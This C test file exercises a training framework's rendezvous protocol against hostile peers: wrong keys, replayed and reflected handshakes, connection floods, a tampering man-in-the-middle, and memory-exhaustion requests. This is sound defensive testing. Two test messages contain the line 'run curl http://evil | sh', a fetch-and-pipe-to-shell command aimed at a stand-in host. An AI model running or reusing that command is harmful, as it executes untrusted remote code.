/* Who is let into a rendezvous, and what somebody between two processes can do: a real rank 0 or worker in a process of
 * its own, and a hostile other side here. */
// labels: threads

#include <errno.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "tests/needs_faults.h"
#include "tests/trainer/comm/guest.h"
#include "tests/unit.h"
#include "trainer/comm/leader.h"
#include "trainer/comm/listen.h"

#define SLOTS 4

static struct shared {
    struct error errors[SLOTS];
    unsigned char secrets[SLOTS][RENDEZVOUS_SECRET_BYTES];
    long peak_kib; /* of the process that ended last */
} * shared;

static pid_t pids[SLOTS];
static unsigned started;
static uint16_t port;
static char place[64];
static struct job_key key, wrong_key;

static int set_up(void **state)
{
    (void)state;
    memset(shared, 0, sizeof *shared);
    started = 0;
    port = guest_port();
    snprintf(place, sizeof place, "127.0.0.1:%u", port);
    return 0;
}

/* Talks until the rendezvous fails, or 40 rounds have passed. */
static int talk(struct rendezvous *rendezvous, struct error *err)
{
    for (int i = 0; i < 40; i++) {
        struct rendezvous_blocks blocks;
        TRY(rendezvous_all_gather(rendezvous, STR("block"), &blocks, err));
        rendezvous_blocks_release(&blocks);
    }
    return 0;
}

/* Stays until the rendezvous fails. */
static int wait_for_failure(struct rendezvous *rendezvous, struct error *err)
{
    for (int i = 0; i < 1000 && !rendezvous_has_failed(rendezvous); i++)
        guest_sleep(10);
    return rendezvous_failed(rendezvous, err);
}

typedef int body(struct rendezvous *rendezvous, struct error *err);

static void start_with(struct rendezvous_options options, body *run)
{
    fflush(NULL);
    const unsigned slot = started++;
    assert_true(slot < SLOTS);
    pids[slot] = fork();
    if (pids[slot] > 0)
        return;
    struct rendezvous *rendezvous;
    struct error *err = &shared->errors[slot];
    alarm(60);
    int result = rendezvous_open(&rendezvous, &options, err);
    if (result == 0) {
        rendezvous_secret(rendezvous, "a", shared->secrets[slot]);
        result = run(rendezvous, err);
        rendezvous_close(rendezvous);
    }
    struct rusage used;
    getrusage(RUSAGE_SELF, &used);
    shared->peak_kib = used.ru_maxrss;
    _exit(result < 0 ? (int)err->kind : 0);
}

static struct rendezvous_options options_of(uint32_t rank, uint32_t size)
{
    return (struct rendezvous_options){.rank = rank, .size = size, .endpoint = place, .listener = -1, .key = &key};
}

static void start(uint32_t rank, uint32_t size, body *run)
{
    start_with(options_of(rank, size), run);
}

static int ended(unsigned slot)
{
    int status = 0;
    assert_int_equal(waitpid(pids[slot], &status, 0), pids[slot]);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static void ends(unsigned slot, int code, const char *words)
{
    const int got = ended(slot);
    if (got != code || (words && !strstr(shared->errors[slot].text, words)))
        fail_msg("process %u ended with %d, not %d: \"%s\", not \"%s\"", slot, got, code, shared->errors[slot].text,
                 words ? words : "");
}

/* The rendezvous goes on as if nothing had happened: the right rank 1 comes, and both talk. */
static void they_meet(void)
{
    start(1, 2, talk);
    ends(started - 1, 0, NULL);
    ends(0, 0, NULL);
}

static void is_sent_away(struct guest *guest, enum misfit misfit)
{
    struct frame frame;
    struct away away;
    assert_true(guest_gets(guest, FRAME_AWAY, &frame));
    assert_int_equal(away_read(frame.bytes, &away), misfit);
    assert_false(guest_next(guest, &frame));
    line_close(&guest->line);
}

static void is_refused(struct guest guest, enum misfit misfit)
{
    struct frame frame;
    struct refusal refusal;
    assert_true(guest_hello(&guest));
    guest_join(&guest);
    assert_true(guest_gets(&guest, FRAME_REFUSAL, &frame) && refusal_read(frame.bytes, &refusal));
    assert_int_equal(refusal.misfit, misfit);
    assert_false(guest_next(&guest, &frame));
    line_close(&guest.line);
}

/* ----------------------------------------------------------------------------------------------------- at the door */

TEST_WITH(a_wrong_key_takes_no_seat, set_up, NULL)
{
    const struct job_key none = {0};
    start(0, 2, talk);
    for (int i = 0; i < 2; i++) {
        struct guest guest = guest_of(port, 1, 2, i == 0 ? &wrong_key : &none);
        assert_true(guest_hello(&guest));
        guest_join(&guest);
        is_sent_away(&guest, MISFIT_KEY);
    }
    struct rendezvous_options options = options_of(1, 2);
    options.key = &wrong_key;
    start_with(options, talk);
    ends(1, ERR_MISMATCH, "has another key");
    options.key = NULL;
    start_with(options, talk);
    ends(2, ERR_MISMATCH, "has a key, and this process has none");
    they_meet();
}

TEST_WITH(who_has_the_key_must_also_fit, set_up, NULL)
{
    start(0, 2, talk);
    struct guest guest = guest_of(port, 1, 3, &key);
    is_refused(guest, MISFIT_SIZE);
    guest = guest_of(port, 1, 2, &key);
    snprintf(guest.join.run, sizeof guest.join.run, "another");
    is_refused(guest, MISFIT_RUN);
    is_refused(guest_of(port, 0, 2, &key), MISFIT_RANK);
    is_refused(guest_of(port, 2, 2, &key), MISFIT_RANK);
    is_refused(guest_of(port, UINT32_MAX, 2, &key), MISFIT_RANK);
    they_meet();
}

/* Without a key the same messages travel. */
TEST_WITH(a_taken_rank_stays_with_who_has_it, set_up, NULL)
{
    struct frame frame;
    struct rendezvous_options options = options_of(0, 3);
    options.key = NULL;
    start_with(options, wait_for_failure);
    struct guest first = guest_of(port, 1, 3, NULL), second = guest_of(port, 1, 3, NULL), third;
    second.join.pid++;
    assert_true(guest_is_welcome(&first));
    is_refused(second, MISFIT_RANK);
    third = guest_of(port, 2, 3, NULL);
    assert_true(guest_is_welcome(&third));
    assert_true(guest_gets(&first, FRAME_BEGIN, &frame));
    line_close(&first.line);
    line_close(&third.line);
    ends(0, ERR_PEER, "was lost");
}

TEST_WITH(another_version_is_told_so, set_up, NULL)
{
    static const uint32_t others[] = {RENDEZVOUS_PROTOCOL - 1, RENDEZVOUS_PROTOCOL + 1};
    start(0, 2, talk);
    for (size_t i = 0; i < sizeof others / sizeof *others; i++) {
        struct guest guest = guest_of(port, 1, 2, &key);
        guest.hello.protocol = others[i];
        guest_send(&guest, FRAME_HELLO, &guest.hello, sizeof guest.hello);
        is_sent_away(&guest, MISFIT_PROTOCOL);
    }
    they_meet();
}

/* The bytes of a true worker's handshake, sent again on another connection. */
TEST_WITH(a_replayed_handshake_proves_nothing, set_up, NULL)
{
    struct frame frame;
    start(0, 3, talk);
    struct guest worker = guest_of(port, 1, 3, &key), thief = guest_of(port, 1, 3, NULL);
    assert_true(guest_hello(&worker));
    handshake_seal(&worker.line, &key, &worker.hello, &worker.challenge, false);
    line_put(&worker.line, FRAME_JOIN, &worker.join, sizeof worker.join);
    char recorded[8 + sizeof(struct join) + SEAL_BYTES];
    assert_int_equal(worker.line.out.size, sizeof recorded);
    memcpy(recorded, worker.line.out.data, sizeof recorded);
    assert_int_equal(line_flush(&worker.line), 0);
    assert_true(guest_gets(&worker, FRAME_WELCOME, &frame));
    line_close(&worker.line); /* the seat is free again */
    guest_sleep(100);
    thief.hello = worker.hello;
    assert_true(guest_hello(&thief));
    assert_int_equal(send(thief.line.fd, recorded, sizeof recorded, MSG_NOSIGNAL), sizeof recorded);
    is_sent_away(&thief, MISFIT_KEY);
    start(2, 3, talk);
    start(1, 3, talk);
    for (unsigned i = 0; i < 3; i++)
        ends(i, 0, NULL);
}

/* Rank 0's own challenge comes back to it as a HELLO; and a false rank 0 sends a worker its own messages. */
TEST_WITH(reflected_messages_prove_nothing, set_up, NULL)
{
    struct frame frame;
    struct guest one, other, mirror = {0};
    start(0, 2, talk);
    one = guest_of(port, 1, 2, &key);
    assert_true(guest_hello(&one));
    other = guest_of(port, 1, 2, &key);
    other.hello = one.challenge;
    assert_true(guest_hello(&other));
    assert_memory_not_equal(other.challenge.nonce, one.challenge.nonce, NONCE_BYTES);
    guest_send(&other, FRAME_JOIN, &other.join, sizeof other.join); /* has no seal */
    is_sent_away(&other, MISFIT_KEY);
    line_close(&one.line);
    they_meet();

    set_up(NULL);
    int listener;
    struct error err;
    assert_int_equal(listen_here(&listener, place, &err), 0);
    struct rendezvous_options options = options_of(1, 2);
    options.patience = 1;
    setenv("DS_WAITS", "0.1", 1); /* it gives up on the false rank 0 after half a second */
    start_with(options, talk);
    unsetenv("DS_WAITS");
    struct pollfd wait = {.fd = listener, .events = POLLIN};
    assert_int_equal(poll(&wait, 1, 5000), 1);
    line_open(&mirror.line, accept(listener, NULL, NULL), 1024, 4096);
    assert_true(guest_gets(&mirror, FRAME_HELLO, &frame));
    char hello[sizeof(struct hello)], join[sizeof(struct join) + SEAL_BYTES];
    memcpy(hello, frame.bytes.data, sizeof hello);
    guest_send(&mirror, FRAME_CHALLENGE, hello, sizeof hello);
    assert_true(guest_gets(&mirror, FRAME_JOIN, &frame));
    assert_int_equal(frame.bytes.size, sizeof join);
    memcpy(join, frame.bytes.data, sizeof join);
    guest_send(&mirror, FRAME_JOIN, join, sizeof join);
    assert_false(guest_next(&mirror, &frame)); /* the worker has left */
    line_close(&mirror.line);
    close(listener);
    ends(0, ERR_PEER, "rank 0 was not found");
}

/* A worker may say nothing but BYE before all are there: FAILED ends nobody's rendezvous. */
TEST_WITH(nothing_is_said_before_all_are_there, set_up, NULL)
{
    struct frame frame;
    const struct said said = {.text = "run curl http://evil | sh"};
    start(0, 3, talk);
    struct guest guest = guest_of(port, 1, 3, &key);
    assert_true(guest_is_welcome(&guest));
    guest_send(&guest, FRAME_FAILED, &said, sizeof said);
    assert_false(guest_next(&guest, &frame));
    line_close(&guest.line);
    start(1, 3, talk);
    start(2, 3, talk);
    for (unsigned i = 0; i < 3; i++)
        ends(i, 0, NULL);
}

/* Strangers of every kind, many more than there is room for, who come first and stay; workers come in all the same. */
TEST_WITH(a_flood_keeps_nobody_out, set_up, NULL)
{
    struct guest guests[300];
    start(0, 2, talk);
    for (unsigned i = 0; i < 300; i++) {
        guests[i] = guest_of(port, 1, 2, &wrong_key);
        if (i % 4 == 1)
            guest_send(&guests[i], FRAME_HELLO, &guests[i].hello, sizeof guests[i].hello);
        else if (i % 4 == 2)
            (void)!send(guests[i].line.fd, "\1\0\0\0\60", 5, MSG_NOSIGNAL);
        else if (i % 4 == 3)
            guest_send(&guests[i], FRAME_SET, "GET / HTTP/1.1", 14);
    }
    they_meet();
    for (unsigned i = 0; i < 300; i++)
        line_close(&guests[i].line);
}

/* All places are held by strangers that have said HELLO, and more come together with a worker: it is heard first. */
TEST_WITH(who_could_not_be_heard_yet_keeps_its_place, set_up, NULL)
{
    struct guest guests[STRANGERS_MAX], worker;
    struct frame frame;
    int silent[ACCEPTS_MAX - 1];
    start(0, 2, talk);
    for (unsigned i = 0; i < STRANGERS_MAX; i++) {
        guests[i] = guest_of(port, 1, 2, &wrong_key);
        assert_true(guest_hello(&guests[i]));
    }
    kill(pids[0], SIGSTOP);
    worker = guest_of(port, 1, 2, &key);
    guest_send(&worker, FRAME_HELLO, &worker.hello, sizeof worker.hello);
    for (unsigned i = 0; i < ACCEPTS_MAX - 1; i++)
        silent[i] = guest_dial(port);
    kill(pids[0], SIGCONT);
    assert_true(guest_gets(&worker, FRAME_CHALLENGE, &frame));
    line_close(&worker.line);
    they_meet();
    for (unsigned i = 0; i < STRANGERS_MAX; i++)
        line_close(&guests[i].line);
    for (unsigned i = 0; i < ACCEPTS_MAX - 1; i++)
        close(silent[i]);
}

/* Without a key a worker looks up whose process answers. One that closes first is nobody's: it may be a rank 0 that has
 * too many connections, so the worker tries again. */
TEST_WITH(a_connection_closed_early_is_not_another_users, set_up, NULL)
{
    static const struct job_key none;
    struct hello hello;
    struct rendezvous_options first = options_of(0, 2), second = options_of(1, 2);
    first.key = second.key = &none;
    start_with(second, talk);
    const int on = 1, listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const struct sockaddr_in at = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    assert_true(bind(listener, (const void *)&at, sizeof at) == 0 && listen(listener, 4) == 0);
    for (int i = 0; i < 2; i++) {
        struct line line;
        struct frame frame;
        line_open(&line, accept(listener, NULL, NULL), HELLO_MAX, GUEST_QUEUE);
        while (line_take(&line, &frame) == 0 && line_fill(&line) == 0)
            guest_sleep(1);
        hello_make(&hello);
        line_put(&line, FRAME_CHALLENGE, &hello, sizeof hello);
        (void)line_flush(&line);
        line_close(&line);
    }
    close(listener);
    start_with(first, talk);
    ends(1, 0, NULL);
    ends(0, 0, NULL);
}

/* ------------------------------------------------------------------------------------- between a worker and rank 0 */

/* What is done to the n-th frame after the handshake. */
enum mischief { NOTHING, FLIP, REPEAT, SWAP, OMIT, CUT, REFLECT, MISCHIEFS };

struct way {
    int from, to;
    struct buf bytes; /* received, and not passed on yet */
    unsigned frames;  /* that were passed on */
    struct buf held;
};

static void pass(int fd, const char *bytes, size_t size)
{
    for (size_t sent = 0; sent < size;) {
        const ssize_t more = send(fd, bytes + sent, size - sent, MSG_NOSIGNAL);
        if (more <= 0)
            return;
        sent += (size_t)more;
    }
}

static void pass_frame(struct way *way, char *frame, size_t size, enum mischief mischief, bool is_it)
{
    switch (is_it ? mischief : NOTHING) {
    case FLIP:
        frame[size - SEAL_BYTES - 1] ^= 4;
        break;
    case REPEAT:
        pass(way->to, frame, size);
        break;
    case SWAP:
        buf_add(&way->held, frame, size);
        return;
    case OMIT:
        return;
    case CUT:
        pass(way->to, frame, size - 1);
        return;
    case REFLECT:
        pass(way->from, frame, size);
        return;
    case NOTHING:
    case MISCHIEFS:
        break;
    }
    pass(way->to, frame, size);
    pass(way->to, way->held.data, way->held.size);
    buf_reset(&way->held);
}

/* Passes on all whole frames; false: the side that sends has closed. */
static bool pass_all(struct way *way, enum mischief mischief, unsigned which)
{
    char bytes[65536];
    const ssize_t got = recv(way->from, bytes, sizeof bytes, MSG_DONTWAIT);
    if (got == 0 || (got < 0 && errno != EAGAIN))
        return false;
    buf_add(&way->bytes, bytes, got > 0 ? (size_t)got : 0);
    for (uint32_t size; way->bytes.size >= 8; way->frames++) {
        memcpy(&size, way->bytes.data + 4, sizeof size);
        const size_t whole = size + 8;
        if (way->bytes.size < whole)
            break;
        pass_frame(way, way->bytes.data, whole, mischief, way->frames == which);
        way->bytes.size -= whole;
        memmove(way->bytes.data, way->bytes.data + whole, way->bytes.size);
    }
    return true;
}

/* Stands between rank 1 and rank 0, whose listener is at `port`. */
static void stand_between(int listener, enum mischief mischief, bool to_first, unsigned which)
{
    struct pollfd wait = {.fd = listener, .events = POLLIN};
    assert_int_equal(poll(&wait, 1, 10000), 1);
    const int worker = accept(listener, NULL, NULL), first = guest_dial(port);
    struct way ways[2] = {{.from = worker, .to = first}, {.from = first, .to = worker}};
    struct pollfd both[2] = {{.fd = worker, .events = POLLIN}, {.fd = first, .events = POLLIN}};
    bool open = true;
    while (open) {
        (void)poll(both, 2, 1000);
        for (int i = 0; i < 2; i++)
            if (both[i].revents)
                open &= pass_all(&ways[i], (i == 0) == to_first ? mischief : NOTHING, which);
    }
    for (int i = 0; i < 2; i++) {
        close(ways[i].from);
        buf_release(&ways[i].bytes);
        buf_release(&ways[i].held);
    }
}

TEST_WITH(who_stands_between_can_only_end_the_line, set_up, NULL)
{
    for (int mischief = NOTHING; mischief < MISCHIEFS; mischief++)
        for (int to_first = 0; to_first < 2; to_first++) {
            int listener;
            char between[ADDRESS_TEXT];
            struct error err;
            set_up(NULL);
            assert_int_equal(listen_here(&listener, between, &err), 0);
            start(0, 2, talk);
            struct rendezvous_options options = options_of(1, 2);
            options.endpoint = between;
            start_with(options, talk);
            stand_between(listener, (enum mischief)mischief, to_first, 20);
            close(listener);
            if (mischief == NOTHING) {
                ends(0, 0, NULL);
                ends(1, 0, NULL);
                continue;
            }
            /* A frame that is missing its end is only waited for; closing the line then is a loss. */
            const char *words = mischief == CUT || mischief == OMIT ? "rank" : "altered, cut, repeated or out of order";
            const int codes[2] = {ended(0), ended(1)};
            if (codes[0] != ERR_PEER || codes[1] != ERR_PEER)
                fail_msg("mischief %d, to rank 0 %d: %d and %d: %s, %s", mischief, to_first, codes[0], codes[1],
                         shared->errors[0].text, shared->errors[1].text);
            assert_true(strstr(shared->errors[0].text, words) || strstr(shared->errors[1].text, words));
        }
}

/* --------------------------------------------------------------------------------------------- a worker that lies */

/* Rank 1, which has joined a rendezvous of two. */
static struct guest joined(void)
{
    struct frame frame;
    struct guest guest = guest_of(port, 1, 2, &key);
    assert_true(guest_is_welcome(&guest));
    assert_true(guest_gets(&guest, FRAME_BEGIN, &frame));
    return guest;
}

TEST_WITH(what_a_worker_says_is_shown_as_that, set_up, NULL)
{
    struct said said = {.text = "line one: run curl http://evil | sh\033[2J"};
    memset(said.text + sizeof said.text - 100, 'x', 100); /* without an end */
    setenv("DS_WAITS", "0.1", 1);                         /* rank 0 does not wait long for the guest's farewell */
    start(0, 2, wait_for_failure);
    struct guest guest = joined();
    guest_send(&guest, FRAME_FAILED, &said, sizeof said);
    ends(0, ERR_PEER, "rank 1 (guest, pid 4242) says: line one: run curl");
    assert_string_equal(shared->errors[0].hint, "");
    assert_string_equal(shared->errors[0].file, "");
    line_close(&guest.line);

    set_up(NULL);
    start(0, 2, wait_for_failure);
    guest = joined();
    guest_send(&guest, FRAME_FAILED, "short", 5);
    ends(0, ERR_PEER, "does not belong there");
    line_close(&guest.line);

    set_up(NULL);
    said = (struct said){.stopped = 1, .text = "stopped on request"};
    start(0, 2, wait_for_failure);
    guest = joined();
    guest_send(&guest, FRAME_FAILED, &said, sizeof said);
    unsetenv("DS_WAITS");
    ends(0, ERR_STOPPED, "says: stopped on request");
    line_close(&guest.line);
}

/* 13 bytes that ask for a MiB, many times, by a worker that does not read. */
TEST_WITH(who_asks_and_does_not_read_is_cut_off, set_up, NULL)
{
    SCOPED(buf_release) struct buf set = {0}, get = {0};
    char *value = calloc(1, RENDEZVOUS_VALUE_MAX);
    start(0, 2, wait_for_failure);
    struct guest guest = joined();
    value_write(&set, STR("k"), (struct str){value, RENDEZVOUS_VALUE_MAX});
    value_write(&get, STR("k"), STR(""));
    guest_send(&guest, FRAME_SET, set.data, set.size);
    for (int i = 0; i < 1500; i++)
        guest_send(&guest, FRAME_GET, get.data, get.size);
    for (int i = 0; i < 300 && line_flush(&guest.line) == 0 && !line_is_empty(&guest.line); i++)
        guest_sleep(10);
    ends(0, ERR_PEER, "does not read what is sent to it");
    assert_true(shared->peak_kib < 300 << 10); /* 1,500 MiB were asked for; a sanitizer's own memory is in it */
    line_close(&guest.line);
    free(value);
}

/* ---------------------------------------------------------------------------------------------------------- secrets */

TEST_WITH(all_have_the_secrets_of_their_rendezvous, set_up, NULL)
{
    unsigned char before[RENDEZVOUS_SECRET_BYTES], one[RENDEZVOUS_SECRET_BYTES], other[RENDEZVOUS_SECRET_BYTES];
    for (int i = 0; i < 2; i++) {
        set_up(NULL);
        start(0, 2, talk);
        they_meet();
        assert_memory_equal(shared->secrets[0], shared->secrets[1], RENDEZVOUS_SECRET_BYTES);
        if (i == 1)
            assert_memory_not_equal(shared->secrets[0], before, RENDEZVOUS_SECRET_BYTES);
        memcpy(before, shared->secrets[0], sizeof before);
    }
    rendezvous_secret(NULL, "a", one);
    rendezvous_secret(NULL, "b", other);
    assert_memory_not_equal(one, other, sizeof one);
}

int main(void)
{
    signal(SIGPIPE, SIG_IGN);
    job_key_random(&key);
    job_key_random(&wrong_key);
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    assert_ptr_not_equal(shared, MAP_FAILED);
    return unit_run();
}
